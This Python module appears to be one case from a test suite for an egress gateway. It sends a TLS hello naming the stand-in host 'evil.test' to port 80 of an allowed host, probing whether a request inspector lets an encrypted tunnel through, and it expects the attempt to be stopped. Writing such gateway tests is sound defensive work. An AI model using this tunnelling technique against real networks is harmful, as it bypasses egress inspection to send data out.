"""TLS on the port that is permitted for plain HTTP.

A reader of requests cannot read a hello. If it gives up and passes it on, the worker has an
encrypted tunnel to another site of the address, on a port where requests are inspected.

Not covered: TLS on the ports that the policy permits for it.
"""

ATTACK = {
    "title": "TLS on the port of plain HTTP",
    "group": "tls",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["ATT&CK T1571", "R067", "CWE-436"],
    "arrives": [{"what": "tcp", "address": "93.184.216.34", "port": 80, "text": "evil.test"}],
    "stopped": [{"reason": ["not-the-protocol"], "entry": ["transparent"]}],
}


def attempt(kit):
    import wire

    hello = wire.in_records(wire.hello(wire.server_names(b"evil.test")))
    kit.talk("allowed.test", 80, wire.text(hello), patience=0.1)
